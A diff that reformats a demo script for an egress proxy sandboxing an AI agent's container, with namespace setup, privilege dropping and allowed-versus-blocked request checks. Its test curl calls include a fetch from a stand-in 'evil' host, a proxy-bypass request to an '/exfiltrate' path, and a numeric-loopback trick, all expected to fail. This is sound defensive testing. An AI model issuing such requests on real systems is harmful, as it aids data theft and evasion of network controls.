@@ -32,8 +32,15 @@ from .proxy.netns import listen_in_netns
 from .proxy.server import EgressProxy
 
 # Capabilities dropped and an unprivileged user: what a well-run agent process looks like.
-AGENT = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--inh-caps=-all",
-         "--bounding-set=-all", "--"]
+AGENT = [
+    "setpriv",
+    "--reuid=65534",
+    "--regid=65534",
+    "--clear-groups",
+    "--inh-caps=-all",
+    "--bounding-set=-all",
+    "--",
+]
 SAFETY_NET = "198.18.0.0/15"
 
 
@@ -87,8 +94,20 @@ class World:
         self._veth(f"eds{self.tag}", self.sandbox, self.addr(1), self.addr(2))
         self._veth(f"edu{self.tag}", self.upstream, self.addr(5), self.addr(6))
         a, b = f"edx{self.tag}", f"edy{self.tag}"
-        ip("link", "add", a, "netns", self.sandbox, "type", "veth", "peer", "name", b,
-           "netns", self.upstream)
+        ip(
+            "link",
+            "add",
+            a,
+            "netns",
+            self.sandbox,
+            "type",
+            "veth",
+            "peer",
+            "name",
+            b,
+            "netns",
+            self.upstream,
+        )
         ip("-n", self.sandbox, "addr", "add", f"{self.addr(9)}/30", "dev", a)
         ip("-n", self.upstream, "addr", "add", f"{self.addr(10)}/30", "dev", b)
         ip("-n", self.sandbox, "link", "set", a, "up")
@@ -113,10 +132,13 @@ class World:
 @contextlib.contextmanager
 def world() -> Iterator[World]:
     pid = os.getpid()
-    w = World(f"{pid % 100000}", f"egdemo-sandbox-{pid}", f"egdemo-upstream-{pid}",
-              128 + pid % 120)
-    added = subprocess.run(["ip", "route", "add", "prohibit", SAFETY_NET],
-                           capture_output=True).returncode == 0
+    w = World(f"{pid % 100000}", f"egdemo-sandbox-{pid}", f"egdemo-upstream-{pid}", 128 + pid % 120)
+    added = (
+        subprocess.run(
+            ["ip", "route", "add", "prohibit", SAFETY_NET], capture_output=True
+        ).returncode
+        == 0
+    )
     try:
         w.build()
         yield w
@@ -143,8 +165,9 @@ async def run(*argv: str) -> tuple[int, str, str]:
 
 async def in_sandbox(w: World, env: dict[str, str], *argv: str) -> tuple[int, str, str]:
     envargs = [f"{k}={v}" for k, v in env.items()]
-    return await run("ip", "netns", "exec", w.sandbox, "env", "-i", "PATH=/usr/bin:/bin",
-                     *envargs, *AGENT, *argv)
+    return await run(
+        "ip", "netns", "exec", w.sandbox, "env", "-i", "PATH=/usr/bin:/bin", *envargs, *AGENT, *argv
+    )
 
 
 async def start_app(name: str, sock_or_host: object, port: int = 0) -> web.AppRunner:
@@ -185,10 +208,13 @@ async def story(w: World, audit_path: str) -> int:
     route = f"http://127.0.0.1:{model_app.addresses[0][1]}/v1"
     settings = build_settings({**data, "framework_routes": [route]}, resolve=resolve)
     try:
-        say("The sandbox (an agent's container) and the upstream (the internet) exist.",
-            step="1. Setup, online")
-        rc, out, err = await in_sandbox(w, {}, "curl", "-sS", "--max-time", "5",
-                                        f"http://{w.upstream_direct}/simple/requests/")
+        say(
+            "The sandbox (an agent's container) and the upstream (the internet) exist.",
+            step="1. Setup, online",
+        )
+        rc, out, err = await in_sandbox(
+            w, {}, "curl", "-sS", "--max-time", "5", f"http://{w.upstream_direct}/simple/requests/"
+        )
         show("setup fetches a package straight from the upstream (expected: works)", rc, out, err)
         expect(rc == 0, "setup could not reach the upstream")
 
@@ -196,11 +222,17 @@ async def story(w: World, audit_path: str) -> int:
             AuditLog(audit_path) as audit,
             EgressProxy(settings, listen=["127.0.0.1:0"], audit=audit) as proxy,
         ):
-            say("The proxy runs inside this process. Now cut the sandbox: only its loopback "
-                "stays, where the proxy listens.", step="2. The cut")
+            say(
+                "The proxy runs inside this process. Now cut the sandbox: only its loopback "
+                "stays, where the proxy listens.",
+                step="2. The cut",
+            )
             policy: Policy = settings.policy
             execution = await prepare_execution(
-                w.sandbox, policy, proxy, framework_routes=[route],
+                w.sandbox,
+                policy,
+                proxy,
+                framework_routes=[route],
                 expect_blocked=[f"{w.upstream_direct}:80", f"{w.addr(1)}:53"],
             )
             say(
@@ -213,19 +245,33 @@ async def story(w: World, audit_path: str) -> int:
             )
             env = dict(execution.env)
             say("The agent runs as nobody with no capabilities.", step="3. The agent")
-            rc, out, err = await in_sandbox(w, env, "curl", "-sS", "--max-time", "5",
-                                            "http://pypi.demo/simple/requests/")
+            rc, out, err = await in_sandbox(
+                w, env, "curl", "-sS", "--max-time", "5", "http://pypi.demo/simple/requests/"
+            )
             show("allowed: http://pypi.demo/ through the proxy (expected: works)", rc, out, err)
             expect(rc == 0, "the allowed request failed")
-            rc, out, err = await in_sandbox(w, env, "curl", "-sS", "--max-time", "5",
-                                            "http://evil.pythonhosted.demo/payload")
-            show("blocked: http://evil.pythonhosted.demo/ - a block rule beats the wildcard "
-                 "(expected: 403 with the rule)",
-                 rc, out, err)
+            rc, out, err = await in_sandbox(
+                w, env, "curl", "-sS", "--max-time", "5", "http://evil.pythonhosted.demo/payload"
+            )
+            show(
+                "blocked: http://evil.pythonhosted.demo/ - a block rule beats the wildcard "
+                "(expected: 403 with the rule)",
+                rc,
+                out,
+                err,
+            )
             expect("403" in out, "the blocked request was not refused")
-            rc, out, err = await in_sandbox(w, env, "curl", "-sS", "--noproxy", "*",
-                                            "--max-time", "3",
-                                            f"http://{w.upstream_direct}/exfiltrate")
+            rc, out, err = await in_sandbox(
+                w,
+                env,
+                "curl",
+                "-sS",
+                "--noproxy",
+                "*",
+                "--max-time",
+                "3",
+                f"http://{w.upstream_direct}/exfiltrate",
+            )
             show(
                 "direct: around the proxy, to the upstream's address (expected: fails)",
                 rc,
@@ -233,8 +279,9 @@ async def story(w: World, audit_path: str) -> int:
                 err,
             )
             expect(rc != 0, "a direct connection got through")
-            rc, out, err = await in_sandbox(w, env, "curl", "-sS", "--noproxy", "",
-                                            "--max-time", "5", "http://2130706433:22/")
+            rc, out, err = await in_sandbox(
+                w, env, "curl", "-sS", "--noproxy", "", "--max-time", "5", "http://2130706433:22/"
+            )
             show(
                 "loopback trick: http://2130706433:22/, 127.0.0.1 as a number (expected: 403)",
                 rc,
@@ -242,8 +289,9 @@ async def story(w: World, audit_path: str) -> int:
                 err,
             )
             expect("403" in out, "the loopback trick was not refused")
-            rc, out, err = await in_sandbox(w, env, "curl", "-sS", "--max-time", "5",
-                                            "http://files.pythonhosted.demo/")
+            rc, out, err = await in_sandbox(
+                w, env, "curl", "-sS", "--max-time", "5", "http://files.pythonhosted.demo/"
+            )
             show(
                 "loopback trick: an allowed name whose DNS answer is 127.0.0.1 (expected: 403)",
                 rc,
@@ -255,8 +303,9 @@ async def story(w: World, audit_path: str) -> int:
                 "the name resolving to loopback was not refused by the address guard",
             )
             model_url = execution.framework_urls[route]
-            rc, out, err = await in_sandbox(w, env, "curl", "-sS", "--max-time", "5",
-                                            model_url + "/chat")
+            rc, out, err = await in_sandbox(
+                w, env, "curl", "-sS", "--max-time", "5", model_url + "/chat"
+            )
             show(f"framework route: the model API at {model_url} (expected: works)", rc, out, err)
             expect(rc == 0, "the framework route was not reachable")
             await release_execution(proxy, execution, restore=True)
@@ -280,15 +329,25 @@ def summarize(audit_path: str) -> int:
 
 
 def unprivileged() -> int:
-    say("The full demo creates network namespaces, so it needs root (or CAP_NET_ADMIN and "
+    say(
+        "The full demo creates network namespaces, so it needs root (or CAP_NET_ADMIN and "
         "CAP_SYS_ADMIN). Run `sudo ./dev.sh demo`. Meanwhile, the part that needs no "
         "privilege: judging targets against the embedded example policy.",
-        step="Not root")
+        step="Not root",
+    )
     from .cli import main as egress_main
 
-    args = ["check", "--policy", example_policy_path(), "--lint", "https://pypi.demo",
-            "http://evil.pythonhosted.demo/", "files.pythonhosted.demo", "http://2130706433/",
-            "example.com:22"]
+    args = [
+        "check",
+        "--policy",
+        example_policy_path(),
+        "--lint",
+        "https://pypi.demo",
+        "http://evil.pythonhosted.demo/",
+        "files.pythonhosted.demo",
+        "http://2130706433/",
+        "example.com:22",
+    ]
     print("   $ egress " + " ".join(args), flush=True)
     rc = egress_main(args)
     return 0 if rc in (0, 1) else rc
@@ -303,7 +362,8 @@ def parse_args(argv: Sequence[str] | None) -> argparse.Namespace:
         "example policy. Removes everything it created, also on Ctrl-C.",
     )
     p.add_argument(
-        "--audit-log", metavar="PATH",
+        "--audit-log",
+        metavar="PATH",
         help="keep the demo's audit log at PATH (default: a temporary file, removed at the end)",
     )
     return p.parse_args(argv)
@@ -327,8 +387,7 @@ def main(argv: Sequence[str] | None = None) -> int:
         print(f"\ndemo FAILED ({failures} unexpected outcomes)")
         return 1
     kept = f" The audit log is kept at {args.audit_log}." if args.audit_log else ""
-    say(f"Everything the demo created is gone.{kept} Details: README.md and docs/.",
-        step="Done")
+    say(f"Everything the demo created is gone.{kept} Details: README.md and docs/.", step="Done")
     return 0
 
 
